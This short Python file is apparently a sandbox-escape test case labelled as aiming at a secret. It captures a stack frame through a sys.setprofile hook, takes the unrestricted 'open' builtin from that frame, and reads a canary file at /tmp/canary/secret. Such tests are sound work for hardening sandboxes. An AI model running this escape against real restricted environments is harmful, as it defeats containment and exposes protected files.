# source: own
# effect: secret

import sys

seen = []
sys.setprofile(lambda frame, event, argument: seen.append(frame))
len([])
sys.setprofile(None)
print(seen[0].f_builtins["open"]("/tmp/canary/secret").read())
